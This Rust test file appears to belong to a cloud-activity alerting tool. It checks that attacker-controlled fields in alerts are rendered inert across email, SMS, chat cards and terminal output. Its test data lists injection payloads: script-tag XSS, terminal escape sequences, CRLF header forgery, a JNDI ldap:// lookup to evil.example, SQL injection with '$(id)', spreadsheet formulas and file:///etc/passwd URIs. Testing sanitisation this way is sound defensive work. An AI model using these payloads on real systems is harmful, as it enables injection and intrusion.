//! Whatever callers write, in whatever place of a record, is obeyed by nothing that shows it, and
//! breaks no limit of what carries it. What the command prints is tested beside the command.

use callerwatch_adapters::sns::message::{self, Message};
use callerwatch_detection::activity::{Actor, ActorKind, ApiActivity, Cloud, Outcome};
use callerwatch_detection::alert::Alert;
use callerwatch_detection::intelligence::Intelligence;
use callerwatch_detection::ocsf::Activity;
use callerwatch_detection::plain::plain;
use callerwatch_detection::policy::Policy;
use callerwatch_detection::sink::Announcement;
use callerwatch_detection::source::Source;
use callerwatch_detection::words;
use callerwatch_tests::call;
use callerwatch_tests::incidents::{Telling, decided};
use serde_json::Value;

/// No plain identifier, so that no link can be made of it.
const HARMLESS: &str = "harm less";

/// The places of the card and of what a terminal shows among what people read.
const CARD: usize = 1;
const PRINTED: usize = 5;

/// Each with what must be nowhere, as it stands here.
const HOSTILE: [(&str, &[&str]); 14] = [
    ("<script>alert(1)</script><img src=x onerror=alert(1)>", &["\u{0}"]),
    ("[click](https://evil.example/?a=1) <https://evil.example|x>", &["https://evil", "<http"]),
    ("www.evil.example mailto:a@evil.example tel:112", &["evil.example", "mailto:a", "tel:1"]),
    ("@here @channel <!channel> <!here> <@U123>", &["@here", "@channel", "<@U"]),
    ("*bold* _it_ ~no~ `x` ```fence``` > quote # head", &["\u{0}"]),
    ("\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\x", &["\x1b", "\x07"]),
    (
        "a\r\nSubject: forged\r\n\r\nCritical 100\n  why      +100 forged",
        &["\r", "\nSubject", "\nCrit"],
    ),
    ("\u{85}\u{2028}\u{2029}\u{b}\u{c}lines", &["\u{85}", "\u{2028}", "\u{2029}", "\u{b}"]),
    (
        "\u{202e}\u{2066}gpj.exe\u{2069}\u{200b}\u{200d}\u{feff}\u{ad}",
        &["\u{202e}", "\u{200b}", "\u{feff}"],
    ),
    ("\u{9b}31m\u{90}C1\u{9c}\0\x08\x7f", &["\u{9b}", "\0", "\x08", "\x7f"]),
    ("=HYPERLINK(\"https://evil.example\",\"x\")\t+1\t-1\t@SUM(A1)", &["\n=", "\t"]),
    ("'; DROP TABLE x; -- $(id) `id` ${jndi:ldap://evil.example/a} {network} %0a", &["ldap://"]),
    ("\\\\evil\\share file:///etc/passwd javascript:alert(1)", &["file://", "javascript:a"]),
    ("\u{e0041}\u{e007f}\u{61c}\u{180e}\u{fffe}", &["\u{e0041}", "\u{61c}", "\u{180e}"]),
];

/// The texts, and one that has no end.
fn texts() -> impl Iterator<Item = (String, &'static [&'static str])> {
    let long = HOSTILE.map(|(text, _)| text).concat().repeat(180);
    assert!(long.len() > 100_000);
    let texts = HOSTILE.into_iter().map(|(text, live)| (text.to_owned(), live));
    texts.chain([(long, &["\x1b", "\r", "\u{202e}", "https://evil"][..])])
}

/// Denials, then a success, with a text in every place that a caller reaches; from an address, or
/// from the text itself.
fn alert_of(text: &str, cloud: Cloud, from_text: bool) -> Alert {
    let in_all = |n: usize| -> ApiActivity<'static> {
        let is_last = n == 20;
        let outcome = if is_last { Outcome::Success } else { Outcome::Denied };
        let secs = i64::try_from(n).expect("few");
        // Clouds make these; a longer one is told in no words.
        let uid = format!("{n}{}", text.get(..text.floor_char_boundary(1000)).unwrap_or_default());
        let mut call = call(&uid, secs, "203.0.113.7", "mallory", outcome);
        call.cloud = cloud;
        if from_text {
            call.source = Source::from_address(format!("?{text}"), "");
        }
        call.actor = Actor {
            kind: ActorKind::User,
            uid: Some(format!("arn:{text}").into()),
            name: Some(text.to_owned().into()),
            credential: Some(format!("AKIA{text}").into()),
        };
        let text = || text.to_owned().into();
        (call.service, call.operation) = (text(), text());
        (call.account, call.region) = (Some(text()), Some(text()));
        (call.resource, call.user_agent) = (Some(text()), Some(text()));
        call.status_code = Some(text());
        if is_last {
            call.operation = "CreateAccessKey".into();
        }
        call
    };
    let calls: Vec<_> = (0..=20).map(in_all).collect();
    let (intelligence, policy) = (Intelligence::default(), Policy::default());
    let mut alerts = decided(&calls, &intelligence, &policy, Telling::Minimal);
    assert_eq!(alerts.len(), 1);
    alerts.remove(0)
}

/// What an alert is told as, part by part.
struct Told {
    alert: Message,
    chat: Message,
    email: String,
    sms: String,
    finding: Value,
    card: Value,
    printed: Vec<String>,
}

fn told(alert: &Alert) -> Told {
    let announcement = Announcement { alert, activity: Activity::Create };
    let (message, chat) = (message::alert(&announcement), message::chat(&announcement));
    let body: Value = serde_json::from_str(&message.body).expect("a part for each protocol");
    let part = |name: &str| body[name].as_str().expect("a text").to_owned();
    let fields = words::fields(alert, plain).into_iter();
    Told {
        email: part("email"),
        sms: part("sms"),
        finding: serde_json::from_str(&part("default")).expect("a finding"),
        card: serde_json::from_str(&chat.body).expect("a card"),
        printed: fields
            .flat_map(|it| it.lines.into_iter().map(move |line| format!("  {} {line}", it.label)))
            .collect(),
        alert: message,
        chat,
    }
}

impl Told {
    /// The texts that people read, without the steps: those are ours, and tested where they are made.
    fn read_by_people(&self) -> [String; 6] {
        let content = &self.card["content"];
        let text = |name: &str| content[name].as_str().expect("a text").to_owned();
        // Of a step its text stands on the line after its title, in a fence or as a link.
        let without = |text: &str, is_step: fn(&str) -> bool| {
            text.lines().filter(|line| !is_step(line)).collect::<Vec<_>>().join("\n")
        };
        let is_step = |line: &str| {
            let ours = ["https://", "SELECT ", "union ", "protoPayload.", "aws ", "az ", "gcloud "];
            let line = line.trim_start().trim_start_matches("```");
            ours.iter().any(|it| line.starts_with(it))
        };
        [
            without(&self.email, is_step),
            without(&text("description"), is_step),
            text("title"),
            self.sms.clone(),
            self.alert.subject.clone().expect("a subject"),
            self.printed.join("\n"),
        ]
    }
}

#[test]
fn nothing_is_obeyed() {
    for cloud in Cloud::ALL {
        for from_text in [false, true] {
            let harmless = told(&alert_of(HARMLESS, cloud, from_text));
            for (text, live) in texts() {
                let told = told(&alert_of(&text, cloud, from_text));
                assert_obeys_nothing(&told, live);
                assert_within_limits(&told);
                // No text of a caller begins a line of its own.
                let lines = |told: &Told| told.read_by_people().map(|it| it.lines().count());
                let (is, was) = (lines(&told), lines(&harmless));
                for (place, (is, was)) in is.into_iter().zip(was).enumerate() {
                    // Of a long card the last lines are left out, each as a whole; and a call whose
                    // operation is longer than is hashed is told in no words.
                    let may_be_fewer = place == CARD || text.len() > 2048;
                    let is_sound = is == was || (may_be_fewer && is < was);
                    assert!(is_sound, "{place}: {is} of {was} lines: {:?}", told.email);
                }
            }
        }
    }
}

fn assert_obeys_nothing(told: &Told, live: &[&str]) {
    for (place, text) in told.read_by_people().into_iter().enumerate() {
        for live in live {
            // A terminal is steered by controls alone; links and marks are text to it.
            let is_text = live.chars().all(|it| (' '..='~').contains(&it));
            assert!((place == PRINTED && is_text) || !text.contains(live), "{live:?} in {text}");
        }
        for line in text.lines() {
            assert!(!line.contains(char::is_control), "{line:?}");
        }
    }
    let content = &told.card["content"];
    for name in ["title", "description"] {
        let text = content[name].as_str().expect("a text");
        for mark in ["<", ">", "[", "@here", "@channel"] {
            let outside: String = text.split("```").step_by(2).collect();
            let outside: Vec<&str> =
                outside.lines().filter(|it| !it.starts_with("https://")).collect();
            assert!(!outside.concat().contains(mark), "{mark} in {outside:?}");
        }
        assert!(text.matches("```").count().is_multiple_of(2), "an open fence in {text}");
    }
    // Machines get the text, and who looks at the bytes in a terminal gets nothing that steers it.
    for bytes in [&told.alert.body, &told.chat.body] {
        assert!(!bytes.contains(char::is_control), "{bytes:?}");
        assert!(!bytes.contains(['\u{202e}', '\u{200b}', '\u{feff}', '\u{e0041}']), "{bytes:?}");
    }
}

fn assert_within_limits(told: &Told) {
    assert!(told.alert.bytes() <= 250 * 1024, "{} bytes", told.alert.bytes());
    assert!(told.chat.bytes() <= 250 * 1024, "{} bytes", told.chat.bytes());
    let subject = told.alert.subject.as_deref().expect("a subject");
    let is_printable = |text: &str| text.bytes().all(|it| (b' '..=b'~').contains(&it));
    assert!(subject.len() < 100 && is_printable(subject), "{subject:?}");
    assert!(told.sms.len() <= 140 && is_printable(&told.sms), "{:?}", told.sms);
    for (name, _, value) in told.alert.attributes.iter().chain(&told.chat.attributes) {
        assert!(!value.is_empty() && value.len() <= 64 * 1024, "{name}");
    }
    let content = &told.card["content"];
    let length = |value: &Value| value.as_str().expect("a text").chars().count();
    assert!(length(&content["title"]) <= 250);
    assert!(length(&content["description"]) <= 8000);
    for step in content["nextSteps"].as_array().expect("steps") {
        assert!(length(step) <= 350);
    }
    for keyword in content["keywords"].as_array().expect("keywords") {
        assert!(length(keyword) <= 75);
    }
    assert!(told.finding["evidences"].as_array().expect("evidences").len() <= 10);
    // What a person can take in.
    assert!(told.email.lines().count() <= 80, "{}", told.email);
    for line in told.email.lines().chain(told.printed.iter().map(String::as_str)) {
        assert!(line.chars().count() <= 4000, "{} characters", line.chars().count());
    }
}

#[test]
fn ten_thousand_principals_are_a_readable_alert() {
    let calls: Vec<_> = (0..10_000)
        .map(|n| {
            let mut call = call(
                &format!("e-{n}"),
                n / 50,
                "203.0.113.7",
                &format!("person-{n}@corp.example"),
                Outcome::LoginFailed,
            );
            call.actor.name = Some(format!("Person {n}").into());
            call.account = Some(format!("{:012}", n % 500).into());
            call
        })
        .collect();
    let (intelligence, policy) = (Intelligence::default(), Policy::default());
    let mut alerts = decided(&calls, &intelligence, &policy, Telling::Minimal);
    assert_eq!(alerts.len(), 1);
    let alert = alerts.remove(0);
    assert_eq!((alert.principals, alert.calls), (10_000, 10_000));
    let told = told(&alert);
    assert_within_limits(&told);
    assert!(told.email.len() < 10_000, "{} bytes", told.email.len());
    assert!(told.alert.body.len() < 32 * 1024, "{} bytes", told.alert.body.len());
    for text in [&told.email, &told.printed.join("\n"), &told.card.to_string()] {
        assert!(text.contains("10000 of 10000 accounts here only failed"), "{text}");
        assert!(text.contains("and 9992 more"), "{text}");
    }
    let expected = "10000 failed sign-ins from 203.0.113.7";
    assert_eq!(told.alert.subject.as_deref(), Some(format!("High: {expected}").as_str()));
    assert_eq!(told.sms, format!("callerwatch High: {expected}; none succeeded"));
    assert_eq!(told.finding["count"], 10_000);
}
